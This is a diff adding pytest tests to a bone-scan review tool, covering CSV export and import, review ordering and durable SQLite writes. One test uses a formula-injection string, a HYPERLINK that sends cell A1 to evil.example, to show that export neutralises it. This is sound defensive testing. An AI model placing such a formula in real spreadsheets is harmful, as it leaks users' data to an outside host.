@@ -145,3 +145,58 @@ def test_model_uncertain_first(db, studies):
             db["predictions"].insert({"run_id": run, "image_id": image, "subset": "test", "label": 1, "probability": probability})
     queue = rv.review_queue(db, "ann", "uncertain")
     assert queue == [studies[1], studies[2], studies[0], *studies[3:]]  # margins 0.01, 0.3, 0.55, then unpredicted by id
+
+
+def test_csv_export_escapes_formulas_and_import_restores_them(db, studies, tmp_path):
+    """A note like =HYPERLINK(...) must not run in the spreadsheet, and must come back intact."""
+    from conftest import add_bare_studies
+
+    from bonescan_core import db as dbm
+
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-2 cm", "'quoted", "plain, text", "\tindented\r\n"]
+    for study, note in zip(studies, notes, strict=False):
+        rv.add_review(db, reading(study, "=ann" if study == studies[0] else "bob", "metastatic", note=note))
+    exported = tmp_path / "reviews.csv"
+    assert rv.export_reviews_csv(db, exported) == len(notes)
+    cells = [cell for row in csv.reader(exported.open(newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=ann" in cells and "'@SUM(A1:A9)" in cells
+
+    with dbm.opened(tmp_path / "other.db") as other:
+        add_bare_studies(other, len(studies))
+        result = rv.import_reviews_csv(other, exported)
+        assert (result.added, result.errors) == (len(notes), [])
+        fields = ("study_id", "reviewer", "note", "created_at", "decision", "label", "criteria")
+        imported = [{k: row[k] for k in fields} for s in studies for row in rv.history(other, s)]
+    original = [{k: row[k] for k in fields} for s in studies for row in rv.history(db, s)]
+    assert imported == original
+
+
+def test_order_is_insertion_order_not_the_stored_time(db, studies):
+    """Imported created_at values are data, not order: a sheet cannot date a review into the
+    future to hide a later flag, nor into the past to lose to an older reading."""
+    rv.add_review(db, reading(studies[0], "ann", "metastatic"), created_at="2099-01-01T00:00:00Z")
+    rv.add_flag(db, studies[0], "recheck the spine", "evaluate")
+    assert rv.open_flags(db) == {studies[0]: ["recheck the spine"]}, "a review stored before the flag does not answer it"
+    rv.add_review(db, reading(studies[0], "ann", "non_metastatic"), created_at="2001-01-01T00:00:00Z")
+    assert rv.open_flags(db) == {}, "a review stored after the flag answers it, whatever its time"
+    assert rv.study_statuses(db)[studies[0]].readers == {"ann": "non_metastatic"}
+    assert [r["label"] for r in rv.history(db, studies[0])] == ["metastatic", "non_metastatic"]
+    assert rv.history(db, studies[0])[1]["created_at"] == "2001-01-01T00:00:00Z"  # kept as data
+
+
+def test_a_review_is_written_with_synchronous_full(db, studies, monkeypatch):
+    """A saved review survives a power cut: its commit waits for the disk (synchronous=FULL, 2)."""
+    from bonescan_core import db as dbm
+
+    seen = []
+    real_write = dbm.write
+
+    def watching_write(database):
+        seen.append(database.execute("PRAGMA synchronous").fetchone()[0])
+        return real_write(database)
+
+    monkeypatch.setattr(dbm, "write", watching_write)
+    rv.add_review(db, reading(studies[0], "ann", "metastatic"))
+    rv.add_flag(db, studies[0], "look again", "ann")
+    assert seen == [2, 2]
